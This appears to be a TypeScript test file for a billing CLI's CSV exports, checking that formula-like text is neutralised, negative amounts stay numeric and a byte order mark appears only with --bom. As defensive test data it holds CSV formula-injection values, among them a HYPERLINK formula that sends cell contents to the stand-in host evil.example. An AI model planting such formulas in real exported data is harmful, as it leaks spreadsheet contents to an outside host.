// CSV that is safe to open (issue 12, item 15): every CSV the CLI writes goes through one writer
// that neutralises text a spreadsheet would run as a formula (OWASP), keeps numbers (negative
// amounts too) as numbers, and starts with a UTF-8 byte order mark only with --bom.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { readFileSync } from 'node:fs';
import { bill, pay } from './support/commands.js';
import { workspace } from './support/cli.js';

const CYCLE = 'unit-0301/2026-01';
const JAN = { start: '2026-01-01', end: '2026-02-01' };
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

test('hostile text is neutralised in every CSV; amounts stay numbers; --bom only when asked', () => {
  const w = workspace();
  try {
    w.writeLines('day.jsonl', [
      bill(CYCLE, 'unit-0301', 31520, JAN, '2026-01-15'),
      { ...pay(CYCLE, 'pay-1', 31520, '2026-01-10T10:00:00Z', 'cash', { reference: '@SUM(1+1)' }), actor: HYPERLINK },
      // Paid in full, then adjusted: the customer is owed 50.00, a negative balance.
      {
        type: 'Adjust',
        commandId: 'adj-1',
        cycleId: CYCLE,
        actor: '-2+3',
        at: '2026-01-12T09:00:00Z',
        adjustmentId: 'a1',
        amountMinor: 5000,
        reason: '+goodwill',
      },
      {
        type: 'Refund',
        commandId: 'ref-1',
        cycleId: CYCLE,
        actor: 'clerk-li',
        at: '2026-01-13T09:00:00Z',
        refundId: 'r1',
        paymentId: 'pay-1',
        amountMinor: 1000,
        reason: '\t=1+1 returned',
      },
    ]);
    assert.is(w.renewal(['apply', 'day.jsonl']).status, 0);
    assert.is(w.renewal(['projections', 'rebuild']).status, 0);

    const receipts = w.renewal(['receipts', '--format', 'csv']).stdout;
    const [header, receipt, note] = receipts.split('\r\n');
    assert.not.ok(receipts.startsWith('\ufeff'), 'no byte order mark by default');
    assert.is(header!.split(',')[0], 'number');
    assert.match(receipt!, `,'@SUM(1+1),`);
    assert.match(receipt!, `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    assert.match(note!, `,'\t=1+1 returned,`);
    assert.equal([receipt!.split(',')[6], note!.split(',')[6]], ['31520', '1000']);
    const arrears = w
      .renewal(['arrears', '--contract', 'unit-0301', '--as-of', '2026-02-01', '--format', 'csv'])
      .stdout.split('\r\n')[1]!
      .split(',');
    // Due 315.20 - 50.00 = 265.20, net paid 315.20 - 10.00 = 305.20: the customer is owed 40.00.
    // Columns: ..., total_minor (5), total, due_minor, due, net_paid_minor, net_paid, outstanding_minor (11), outstanding.
    assert.is(arrears[11], '-4000', 'a negative amount is a number, not neutralised');
    assert.is(arrears[12], '-40.00', 'and so is the amount beside it');

    const audit = w.renewal(['audit', 'export', '--format', 'csv']).stdout;
    assert.match(audit, `,'-2+3,`);
    assert.match(audit, `"'=HYPERLINK(`);
    const apply = w.renewal(['apply', 'day.jsonl', '--format', 'csv']).stdout;
    assert.match(apply, '1,duplicate,Bill,bill-unit-0301/2026-01,unit-0301/2026-01');

    // --bom: the mark first, for Excel; on every command that writes CSV, the export to a file too.
    for (const args of [['receipts'], ['arrears'], ['apply', 'day.jsonl'], ['projections', 'status'], ['audit', 'export']]) {
      const r = w.renewal([...args, '--format', 'csv', '--bom']);
      assert.ok(r.stdout.startsWith('\ufeff'), args.join(' '));
      assert.not.ok(r.stdout.slice(1).includes('\ufeff'), 'one mark, at the start');
    }
    assert.is(w.renewal(['audit', 'export', '--format', 'csv', '--bom', '--output', 'trail.csv']).status, 0);
    assert.equal([...readFileSync(w.path('trail.csv')).subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const misuse = w.renewal(['receipts', '--bom']);
    assert.is(misuse.status, 2);
    assert.match(misuse.stderr, 'renewal receipts: --bom goes with --format csv');
  } finally {
    w.cleanup();
  }
});

test.run();
